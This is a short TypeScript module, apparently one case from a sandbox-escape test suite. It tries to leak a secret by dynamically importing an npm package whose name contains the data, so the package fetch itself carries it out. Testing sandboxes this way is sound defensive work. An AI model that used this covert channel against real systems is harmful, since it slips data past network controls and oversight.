// Carries data out by importing a package whose name contains it.
import { type Target, within } from "../attack.ts";

export const layer = "namespaces";

export default async function (_target: Target): Promise<string | null> {
  await within(5000, import(`npm:secret-${"of-the-diary"}@1.0.0`));
  return "imported";
}
